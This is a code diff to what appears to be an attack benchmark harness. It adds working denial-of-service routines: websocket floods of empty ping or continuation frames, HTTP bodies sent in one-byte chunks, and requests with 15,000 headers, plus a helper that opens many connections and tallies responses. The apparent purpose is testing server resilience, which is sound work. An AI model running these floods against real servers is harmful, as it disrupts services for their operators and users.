@@ -5,6 +5,7 @@ from __future__ import annotations
 import socket
 import time
 import zlib
+from collections import Counter
 from contextlib import suppress
 from typing import Any
 
@@ -15,6 +16,10 @@ from bench.attacks.target import Fate, Target, page_at, seat
 
 PATIENCE = 30.0
 """Seconds for which an attacker waits to be thrown out."""
+_MASK = b"\x80\0\0\0\0"
+"""No content, and a mask of zeros, which is as good as any."""
+PING, PONG, BEGUN, MORE = (bytes([first]) + _MASK for first in (0x89, 0x8A, 0x01, 0x00))
+"""Empty frames: two that are no messages, the beginning of a message, and one of its parts that is not the last."""
 
 
 def _frame(payload: bytes, *, packed: bool = False) -> bytes:
@@ -45,6 +50,45 @@ def tiny_frames(target: Target, size: int = 250_000) -> Fate:
     with suppress(OSError):
         page.socket.socket.sendall(one * (size // len(one)))
     return Fate(int(_cut(page.socket)), 1)
+
+
+def empty_frames(target: Target, frames: tuple[bytes, ...] = (PING,), size: int = 3_000_000, sockets: int = 1) -> Fate:
+    """Frames with nothing in them, the last of the kinds without end."""
+    *before, again = frames
+    pages = [page_at(target) for _ in range(sockets)]
+    for page in pages:
+        with suppress(OSError):
+            page.socket.socket.sendall(b"".join(before) + again * (size // len(again)))
+    return Fate(sum(_cut(page.socket) for page in pages), sockets)
+
+
+def tiny_chunks(target: Target, lines: int = 20, size: int = 1_000_000) -> Fate:
+    """Bodies of requests in chunks of one byte."""
+    head = f"POST /api/me HTTP/1.1\r\nHost: {target.host}\r\nTransfer-Encoding: chunked\r\n\r\n".encode()
+    return Fate.of(_answers(target, head + b"1\r\na\r\n" * (size // 6), lines), fine=("200",))
+
+
+def many_headers(target: Target, headers: int = 15_000, lines: int = 1, *, ahead: bool = False) -> Fate:
+    """Requests with many headers, `ahead` of the answer to one that has few."""
+    first = f"GET /api/games HTTP/1.1\r\nHost: {target.host}\r\n"
+    full = first + "Connection: close\r\n" + headers * "a:\r\n" + "\r\n"
+    return Fate.of(_answers(target, (f"{first}\r\n" * ahead + full).encode(), lines), fine=("200",))
+
+
+def _answers(target: Target, request: bytes, lines: int) -> Counter[str]:
+    """The status of the first answer on every line, or "cut"."""
+    host, port = target.host.split(":")
+    opened = [socket.create_connection((host, int(port)), timeout=PATIENCE) for _ in range(lines)]
+    codes: Counter[str] = Counter()
+    for line in opened:
+        with suppress(OSError):  # it may be cut before all of it is sent
+            line.sendall(request)
+    for line in opened:
+        with line, suppress(OSError):
+            answer = line.recv(64)
+            codes[answer.split()[1].decode() if answer else "cut"] += 1
+    codes["cut"] += lines - codes.total()
+    return +codes
 
 
 def bombs(target: Target, sockets: int = 20, size: int = 230_000) -> Fate:
